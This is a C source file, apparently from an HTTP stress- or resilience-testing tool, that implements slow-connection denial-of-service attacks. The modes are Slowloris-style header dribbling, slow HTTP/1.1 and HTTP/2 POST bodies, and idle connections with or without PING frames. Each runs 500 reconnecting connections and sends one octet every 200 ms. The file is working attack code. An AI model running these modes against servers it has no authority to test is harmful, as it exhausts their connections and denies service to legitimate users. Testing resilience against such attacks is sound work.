/* SPDX-License-Identifier: Apache-2.0 */
/* Requests that come an octet at a time, or never. */
#include "attack.h"

#include <stdio.h>

#define TURN_MS 200

static void put_slow_start(client *c, const char *method)
{
    char head[2048];
    snprintf(head, sizeof(head), "%s %s HTTP/1.1\r\nHost: %s\r\n", method, words.target,
             words.authority);
    put_text(c, head);
}

static bool turn_head(client *c)
{
    if (c->step == 0) {
        put_slow_start(c, "GET");
        put_text(c, "X: ");
    } else {
        put_text(c, "a");
    }
    return true;
}

static bool turn_body(client *c)
{
    if (c->step == 0) {
        put_slow_start(c, "POST");
        put_text(c, "Content-Type: application/json\r\nContent-Length: 10000\r\n\r\n");
    } else {
        put_text(c, " ");
    }
    return true;
}

static bool turn_body_h2(client *c)
{
    if (c->step == 0) {
        put_post(c, "application/json", 10000, END_HEADERS);
    } else {
        put_frame(c, DATA, 0, 1, " ", 1);
    }
    return true;
}

static bool turn_nothing(client *c)
{
    (void)c;
    return false;
}

static bool turn_ping(client *c)
{
    put_frame(c, PING, 0, 0, "12345678", 8);
    return true;
}

const attack slow_head = {
    .name = "slow-head",
    .help = "HTTP/1.1 heads, an octet at a time",
    .carriage = CARRY_H1,
    .connections = 500,
    .reconnects = true,
    .turn_ms = TURN_MS,
    .turn = turn_head,
};

const attack slow_body = {
    .name = "slow-body",
    .help = "HTTP/1.1 bodies, an octet at a time",
    .carriage = CARRY_H1,
    .connections = 500,
    .reconnects = true,
    .turn_ms = TURN_MS,
    .turn = turn_body,
};

const attack slow_body_h2 = {
    .name = "slow-body-h2",
    .help = "HTTP/2 bodies, an octet at a time",
    .carriage = CARRY_H2,
    .connections = 500,
    .reconnects = true,
    .turn_ms = TURN_MS,
    .turn = turn_body_h2,
};

const attack idle = {
    .name = "idle",
    .help = "HTTP/1.1 connections without a request",
    .carriage = CARRY_H1,
    .connections = 500,
    .reconnects = true,
    .turn = turn_nothing,
};

const attack idle_pings = {
    .name = "idle-pings",
    .help = "HTTP/2 connections without a request, with a PING now and then",
    .carriage = CARRY_H2,
    .connections = 500,
    .reconnects = true,
    .turn_ms = TURN_MS,
    .turn = turn_ping,
};
